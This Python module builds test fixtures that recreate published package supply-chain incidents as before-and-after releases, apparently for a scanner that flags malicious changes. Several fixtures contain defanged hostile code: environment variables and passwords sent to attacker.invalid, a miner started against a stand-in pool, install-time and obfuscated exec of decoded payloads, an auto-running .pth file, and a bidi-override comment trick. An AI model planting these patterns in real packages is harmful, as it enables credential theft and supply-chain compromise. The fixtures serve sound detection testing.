"""Releases rebuilt after published incidents, with nothing harmful in them.

Each is an ordinary release and the next one, which brings what was found in
the incident, in its manner: the same place, the same means.  Addresses are
those that nobody can have (RFC 2606), programs are texts.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Mapping
from typing import NamedTuple

from tests.sdists import Entry, simple_sdist

HARMLESS = "print('a payload would be here')\n"
HOST = "https://attacker.invalid"


class Incident(NamedTuple):
    """Two releases and what has to be said first.

    Attributes:
        name, old_version, new_version: of the release.
        old, new: files beside those of a simple sdist, by path.
        alert: the code of the alert.
        told: what its line has to hold.
        new_name: of the second release, where it is another.
    """

    name: str
    old_version: str
    new_version: str
    old: Mapping[str, bytes]
    new: Mapping[str, bytes]
    alert: str
    told: str
    new_name: str = ""

    def entries(self) -> tuple[list[Entry], list[Entry]]:
        name = self.new_name or self.name
        return (
            simple_sdist(self.name, self.old_version, extra=self.old),
            simple_sdist(name, self.new_version, extra=self.new),
        )


def metadata(name: str, version: str, *fields: str) -> bytes:
    lines = [f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}"]
    return "\n".join([*lines, *fields, "", "A package.\n"]).encode()


def packed(text: str) -> str:
    return base64.b64encode(zlib.compress(text.encode())).decode()


def event_stream() -> Incident:
    """2018, npm: the new maintainer adds a dependency that has the payload."""
    old = ("Author-email: First <first@example.org>", "Requires-Dist: a")
    new = (
        "Author-email: Second <second@example.net>",
        "Requires-Dist: a",
        "Requires-Dist: flatmap-stream>=0.1",
    )
    return Incident(
        "event-stream",
        "3.3.5",
        "3.3.6",
        {"PKG-INFO": metadata("event-stream", "3.3.5", *old)},
        {"PKG-INFO": metadata("event-stream", "3.3.6", *new)},
        "new-dependency",
        "flatmap-stream>=0.1",
    )


def ctx() -> Incident:
    """2022: the environment is sent away when an object is made."""
    old = "class Ctx(dict):\n    def __init__(self):\n        super().__init__()\n"
    new = (
        "import os\nimport base64\nimport requests\n\n\n"
        "class Ctx(dict):\n    def __init__(self):\n"
        "        super().__init__()\n        self.sendRequest()\n\n"
        "    def sendRequest(self):\n        string = ''\n"
        "        for _, value in os.environ.items():\n"
        "            string += value + ' '\n"
        "        message = base64.b64encode(string.encode('ascii'))\n"
        f"        url = '{HOST}/hacked/' + message.decode('ascii')\n"
        "        return requests.get(url)\n"
    )
    return Incident(
        "ctx",
        "0.1.2",
        "0.2.6",
        {"ctx/ctx.py": old.encode()},
        {"ctx/ctx.py": new.encode()},
        "new-capability",
        "requests.get sends the environment",
    )


def ultralytics() -> Incident:
    """2024, 8.3.41: a miner is fetched, made executable and started."""
    old = (
        "import subprocess\nfrom pathlib import Path\n\n\n"
        "def safe_download(url, file):\n    return Path(file)\n"
    )
    new = (
        "import os\nimport platform\n" + old + "\n\n"
        "def safe_run(path):\n"
        '    """Safely runs the provided file."""\n'
        "    os.chmod(path, 0o770)\n"
        "    command = [path, '-u', '4BHRQHFexjzfVjinAbrAwJdtogpFV3uC',\n"
        "               '-o', 'pool.attacker.invalid:8080']\n"
        "    process = subprocess.Popen(\n"
        "        command, stdin=subprocess.DEVNULL,\n"
        "        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,\n"
        "        preexec_fn=os.setsid, close_fds=True)\n"
        "    os.remove(path)\n"
    )
    return Incident(
        "ultralytics",
        "8.3.40",
        "8.3.41",
        {"ultralytics/utils/downloads.py": old.encode()},
        {"ultralytics/utils/downloads.py": new.encode()},
        "new-capability",
        "subprocess.Popen",
    )


def num2words() -> Incident:
    """2025, 0.5.15: a library is loaded when the package is imported."""
    new = (
        "import ctypes\nimport os\nimport sys\n\n"
        "if sys.platform == 'win32':\n"
        "    ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'data.dll'))"
        "\n\n__version__ = '0.5.15'\n"
    )
    library = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0"
    return Incident(
        "num2words",
        "0.5.14",
        "0.5.15",
        {"num2words/__init__.py": b"__version__ = '0.5.14'\n"},
        {
            "num2words/__init__.py": new.encode(),
            "num2words/data.dll": library + bytes(200),
        },
        "runs-at-import",
        "ctypes.CDLL",
    )


def colourama() -> Incident:
    """2018: a name that looks alike, and a setup.py that decodes a script."""
    payload = base64.b64encode(HARMLESS.encode()).decode()
    script = (
        "import base64\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n\n"
        "class Install(install):\n    def run(self):\n"
        f"        exec(base64.b64decode('{payload}'))\n"
        "        install.run(self)\n\n"
        "setup(name='colourama', version='0.1.6',\n"
        "      cmdclass={'install': Install})\n"
    )
    return Incident(
        "colorama",
        "0.4.1",
        "0.4.2",
        {},
        {"setup.py": script.encode()},
        "runs-at-build",
        "builtins.exec executes what was decoded",
        new_name="colourama",
    )


def torchtriton() -> Incident:
    """2022: a program in the package is started when it is imported."""
    new = (
        "import os\nimport subprocess\n\n\ndef _check():\n"
        "    path = os.path.join(os.path.dirname(__file__), 'runtime/triton')"
        "\n    subprocess.Popen([path])\n\n\n_check()\n"
    )
    program = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00" + bytes(100)
    return Incident(
        "torchtriton",
        "2.0.0",
        "2.0.1",
        {"triton/__init__.py": b""},
        {"triton/__init__.py": new.encode(), "triton/runtime/triton": program},
        "runs-at-import",
        "subprocess.Popen",
    )


def xz() -> Incident:
    """2024, 5.6.0: a build script takes code out of a test file."""
    script = (
        "AC_DEFUN([gl_BUILD_TO_HOST], [\n"
        '  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'\n'
        "  gl_am_configmake=`sed -e 'r' "
        "$srcdir/tests/files/bad-3-corrupt_lzma2.xz | eval $gl_path_map "
        "| xz -dc 2>/dev/null`\n])\n"
    )
    return Incident(
        "xz",
        "5.4.6",
        "5.4.7",
        {
            "m4/build-to-host.m4": b"AC_DEFUN([gl_BUILD_TO_HOST], [])\n",
            "tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\0" + bytes(90),
        },
        {
            "m4/build-to-host.m4": script.encode(),
            "tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\0" + bytes(400),
        },
        "build-reads-binary",
        "bad-3-corrupt_lzma2.xz",
    )


def aiocpa() -> Incident:
    """2024, 0.1.13: code behind base64, zlib and a lambda."""
    code = (
        "_ = lambda __ : __import__('zlib').decompress("
        "__import__('base64').b64decode(__[::-1]));"
        f"exec((_)(b'{packed(HARMLESS)[::-1]}'))\n"
    )
    old = b"import asyncio\n\n\ndef sync(f):\n    return f\n"
    return Incident(
        "aiocpa",
        "0.1.12",
        "0.1.13",
        {"cryptopay/utils/sync.py": old},
        {"cryptopay/utils/sync.py": old + b"\n" + code.encode()},
        "new-capability",
        "builtins.exec executes what was decoded",
    )


def ssh_decorate() -> Incident:
    """2018, 0.28: what was typed is sent away, by a function of its own."""
    old = (
        "import getpass\n\n\nclass ssh_connect:\n"
        "    def __init__(self, user, server, password):\n"
        "        self.user = user\n"
    )
    new = old + (
        "        self.log({'server': server, 'password': "
        "getpass.getpass(), 'user': getpass.getuser()})\n\n"
        "    def log(self, data):\n"
        "        from urllib.request import urlopen\n"
        f"        urlopen('{HOST}/index.php', data=str(data).encode())\n"
    )
    return Incident(
        "ssh-decorate",
        "0.27",
        "0.28",
        {"ssh_decorate/ssh.py": old.encode()},
        {"ssh_decorate/ssh.py": new.encode()},
        "new-capability",
        "sends the environment or a secret",
    )


def start_file() -> Incident:
    """2026, litellm 1.82.8: a .pth runs in every Python process."""
    line = (
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
        f"\"import base64; exec(base64.b64decode('{packed(HARMLESS)}'))\"])\n"
    )
    return Incident(
        "litellm",
        "1.82.7",
        "1.82.8",
        {},
        {"litellm_init.pth": line.encode()},
        "runs-at-start",
        "litellm_init.pth added",
    )


def hidden_override() -> Incident:
    """CVE-2021-42574, 2021: a condition that is a comment to its reader."""
    old = "def may(level):\n    if level != 'user':\n        return True\n"
    new = old.replace(
        "'user'", "'user\u202e \u2066# only admins\u2069 \u2066'"
    )
    return Incident(
        "trojan-source",
        "1.0.0",
        "1.0.1",
        {"trojan_source/access.py": old.encode()},
        {"trojan_source/access.py": new.encode()},
        "hidden-character",
        "U+202E RIGHT-TO-LEFT OVERRIDE",
    )


INCIDENTS = (
    event_stream,
    ctx,
    ultralytics,
    num2words,
    colourama,
    torchtriton,
    xz,
    aiocpa,
    ssh_decorate,
    start_file,
    hidden_override,
)
